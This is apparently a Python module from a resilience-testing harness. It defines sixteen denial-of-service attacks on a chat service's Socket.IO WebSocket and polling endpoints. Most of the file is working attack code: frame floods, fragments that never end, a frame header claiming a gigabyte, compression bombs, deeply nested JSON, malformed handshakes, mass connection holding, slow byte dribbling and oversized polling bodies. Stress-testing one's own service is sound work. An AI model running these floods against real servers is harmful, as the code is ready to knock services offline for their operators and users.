"""The chat's WebSockets and its polling, with a token and without."""

import json
import os
import socket
import time
import zlib
from collections.abc import Callable
from contextlib import suppress

from hostile.attacker import Attacker
from hostile.wire import BINARY, CONTINUATION, PING, TEXT, WebSocket, ask, frame, handshake, request

POLLING = "/socket.io/?EIO=4&transport=polling"
LONGEST = 64 * 1024


def frames_without_a_token(attack: Attacker) -> None:
    """What means nothing, as fast as it is taken: short and long, pings, single bytes."""
    batches = (
        frame(b"4" + b"x" * 1000) * 60,
        frame(b"4" + b"x" * (LONGEST - 100)),
        (frame(b"ping", PING) + frame(b"2")) * 500,
        frame(b"6") * 5000,
    )
    attack.crowd(8, lambda me: _flood_socket(attack, me, batches[me % len(batches)]))


def packets_that_open_sessions(attack: Attacker) -> None:
    """`CONNECT` again and again, for this namespace and for others, with nonsense for a token."""
    packets = [b'40{"token":"nonsense"}', b"40/other,{}", b"40", b"41", b'42["join_chat",{"ticket_id":1}]']
    attack.crowd(4, lambda me: _flood_socket(attack, me, b"".join(map(frame, packets)) * 100))


def messages_without_an_end(attack: Attacker) -> None:
    """Fragments, none of which is the last, with something in them and without; a frame that promises a gigabyte."""
    begin = frame(b"4", TEXT, is_final=False)
    promise = bytes([0x82, 0x80 | 127]) + (2**30).to_bytes(8) + bytes(4)
    ways = (
        (begin, frame(b"x" * 4000, CONTINUATION, is_final=False) * 16),
        (begin, frame(b"", CONTINUATION, is_final=False) * 5000),
        (promise, bytes(LONGEST)),
    )

    def send(me: int) -> None:
        first, more = ways[me % len(ways)]
        _flood_socket(attack, me, more, first)

    attack.crowd(9, send)


def deflated_bombs(attack: Attacker) -> None:
    """Half a megabyte that would be half a gigabyte."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    megabyte = deflate.compress(bytes(2**20)) + deflate.flush(zlib.Z_FULL_FLUSH)  # which makes it one by itself
    bomb = megabyte * 500
    data = frame(bomb.removesuffix(b"\0\0\xff\xff"), TEXT, is_deflated=True)
    offer = {"Sec-WebSocket-Extensions": "permessage-deflate; client_max_window_bits"}
    attack.crowd(4, lambda me: _flood_socket(attack, me, data, **offer))


def binary_packets(attack: Attacker) -> None:
    """Events that announce attachments: those that never come, and those that nobody announced."""
    batch = frame(b'451-["chat_message",{"_placeholder":true,"num":0}]') + frame(bytes(4000), BINARY) * 3
    batch += frame(b'4599999999-["x"]')
    attack.crowd(4, lambda me: _flood_socket(attack, me, batch * 20))


def events_that_are_dear_to_read(attack: Attacker) -> None:
    """Deep JSON and hostile numbers, of somebody who is signed in."""
    numbers = (b"1e99999", b"9" * 5000, b"-1", b"1.5", b"9" * 60_000)
    batch = b"".join(frame(b'42["join_chat",{"ticket_id":%b}]' % number) for number in numbers)
    batch += frame(b"42" + b"9" * 60_000 + b'["x"]') + frame(b'42["chat_message",' + b"[" * 30_000)
    batch += frame(b'42["x",' + b"[" * 5000 + b"]" * 5000 + b"]")
    attack.crowd(4, lambda me: _flood_signed_in(attack, me, lambda _: batch))


def chat_messages(attack: Attacker) -> None:
    """Said by somebody who is signed in, on ten sockets at once, which also send forms."""
    message = json.dumps({"ticket_id": attack.target.ticket, "message": "x" * 500})
    form = json.dumps({"subject": "x", "message": "y" * 4000})

    def say(number: int) -> bytes:
        said = [f'42{number * 10 + n}["chat_message",{message}]' for n in range(10)]
        return b"".join(frame(packet.encode()) for packet in [*said, f'42["contact_form",{form}]'])

    attack.crowd(10, lambda me: _flood_signed_in(attack, me, say))


def events_whose_answers_nobody_reads(attack: Attacker) -> None:
    batch = frame(b'421["join_chat",{"ticket_id":%d}]' % attack.target.ticket) * 50
    attack.crowd(10, lambda me: _flood_signed_in(attack, me, lambda _: batch, reads=False))


def sockets_that_never_sign_in(attack: Attacker) -> None:
    """As many as the gateway has places for, from twenty addresses."""
    _open_sockets(attack, 3000, 20)


def sockets_of_one_address(attack: Attacker) -> None:
    _open_sockets(attack, 1000, 1)


def sockets_of_one_account(attack: Attacker) -> None:
    opened = 0
    while attack.goes_on():
        opened += 1
        if client := attack.keep(opened % 20):
            with attack.attempt():
                WebSocket(client).sign_in(attack.target.token)
                attack.tally["signed in"] += 1


def half_handshakes(attack: Attacker) -> None:
    """Handshakes that miss something, contradict themselves, or end in the middle."""
    heads = (
        handshake(Sec_WebSocket_Key="x"),
        handshake(Sec_WebSocket_Version="99"),
        handshake(Sec_WebSocket_Extensions="permessage-deflate; client_max_window_bits=99"),
        handshake(Sec_WebSocket_Extensions="permessage-deflate; server_max_window_bits=0, " * 100),
        handshake(Upgrade="websocket, websocket"),
        handshake(Connection="close"),
        handshake("/socket.io/?EIO=3&transport=websocket"),
        handshake("/socket.io/?EIO=99&transport=websocket&sid=x"),
        handshake("/socket.io/?transport=websocket&EIO=4&j=0"),
        handshake(Content_Length="100000"),
        handshake(Transfer_Encoding="chunked") + b"5\r\nhello\r\n",
        request("GET", "/socket.io/?EIO=4&transport=websocket"),
        request("POST", "/socket.io/?EIO=4&transport=websocket", b"40"),
        request("GET", POLLING + "&j=0"),
        request("GET", "/socket.io/?EIO=4&transport=polling&sid=" + "x" * 5000),
    )

    def send(me: int) -> None:
        number = me
        while attack.goes_on():
            number += 1
            with attack.attempt(), attack.connect(me) as client:
                client.settimeout(1)
                attack.tally["requests"] += 1
                attack.tally[str(ask(client, heads[number % len(heads)]).status)] += 1

    attack.crowd(12, send)


def polling_sessions(attack: Attacker) -> None:
    """Each takes memory until it times out; half of them have no id, and say so."""
    hellos = request("GET", POLLING), request("GET", f"{POLLING}&sid=")
    attack.crowd(20, lambda me: attack.ask_again_and_again(lambda number: hellos[number % 2], me))


def sockets_that_sessions_never_move_to(attack: Attacker) -> None:
    """A WebSocket for each of many polling sessions, which is opened and then left alone."""

    def open_some(me: int) -> None:
        while attack.goes_on():
            client = attack.keep(me)
            with attack.attempt(), attack.connect(me) as other:
                session = json.loads(ask(other, request("GET", POLLING)).body[1:])["sid"]
                if client:
                    ask(client, handshake(f"/socket.io/?EIO=4&transport=websocket&sid={session}"))
                    attack.tally["sockets"] += 1

    attack.crowd(20, open_some)


def frames_that_dribble(attack: Attacker) -> None:
    """A long message byte by byte, on ten sockets."""
    message = frame(b'42["x","' + b"a" * 60_000 + b'"]')

    def dribble(me: int) -> None:
        while attack.goes_on():
            with attack.attempt(), attack.connect(me) as client:
                web_socket = WebSocket(client).sign_in(attack.target.token)
                for at in range(len(message)):
                    if not attack.goes_on():
                        return
                    web_socket.client.send(message[at : at + 1])
                    attack.tally["bytes"] += 1

    attack.crowd(10, dribble)


def polling_payloads(attack: Attacker) -> None:
    """Thousands of packets in a body, and bodies of which some say less than they have."""
    bodies = (
        b"\x1e".join([b"6"] * 30_000),
        b"\x1e" * 60_000,
        b"\x1e".join([b'42["x",1]'] * 5000),
        b"b" + b"A" * 60_000,
        b"4" + b"[" * 60_000,
        b"4" + b"x" * (LONGEST * 20),
    )

    plain = {"Content-Type": "text/plain"}

    def send(me: int) -> None:
        while attack.goes_on():
            with attack.attempt(), attack.connect(me) as client:
                answer = ask(client, request("GET", POLLING))
                attack.tally[str(answer.status)] += 1
                session = json.loads(answer.body[1:])["sid"] if answer.status == 200 else os.urandom(8).hex()
                for body in bodies:
                    if attack.goes_on():
                        answer = ask(client, request("POST", f"{POLLING}&sid={session}", body, headers=plain))
                        attack.tally["requests"] += 1
                        attack.tally[str(answer.status)] += 1

    attack.crowd(8, send)


def _flood_socket(attack: Attacker, me: int, batch: bytes, first: bytes = b"", **headers: str) -> None:
    """Send what the shop takes, on a socket that never signs in, and on another one when it is closed."""
    while attack.goes_on():
        with attack.attempt(), attack.connect(me) as client:
            web_socket = WebSocket(client, **headers)
            _pour(attack, web_socket.client, lambda _: batch, first)


def _flood_signed_in(attack: Attacker, me: int, make: Callable[[int], bytes], reads: bool = True) -> None:
    while attack.goes_on():
        with attack.attempt(), attack.connect(me) as client:
            web_socket = WebSocket(client).sign_in(attack.target.token)
            _pour(attack, web_socket.client, make, reads=reads)


def _pour(
    attack: Attacker, client: socket.socket, make: Callable[[int], bytes], first: bytes = b"", reads: bool = True
) -> None:
    client.sendall(first)
    client.setblocking(False)
    rest, number = b"", 0
    while attack.goes_on():
        if not rest:
            rest, number = make(number), number + 1
        with suppress(BlockingIOError):
            sent = client.send(rest)
            rest = rest[sent:]
            attack.tally["bytes"] += sent
        with suppress(BlockingIOError):
            if reads and not client.recv(65536):
                return
        time.sleep(0.002)


def _open_sockets(attack: Attacker, number: int, addresses: int) -> None:
    """Open so many, eight at a time, and hold them until the attack ends."""

    def open_some(me: int) -> None:
        for each in range(me, number, 8):
            if attack.goes_on() and (client := attack.keep(each % addresses)):
                with attack.attempt():
                    WebSocket(client)
                    attack.tally["sockets"] += 1
        attack.wait()

    attack.crowd(8, open_some)


ATTACKS = (
    frames_without_a_token,
    packets_that_open_sessions,
    messages_without_an_end,
    deflated_bombs,
    binary_packets,
    events_that_are_dear_to_read,
    chat_messages,
    events_whose_answers_nobody_reads,
    sockets_that_never_sign_in,
    sockets_of_one_address,
    sockets_of_one_account,
    half_handshakes,
    polling_sessions,
    sockets_that_sessions_never_move_to,
    frames_that_dribble,
    polling_payloads,
)
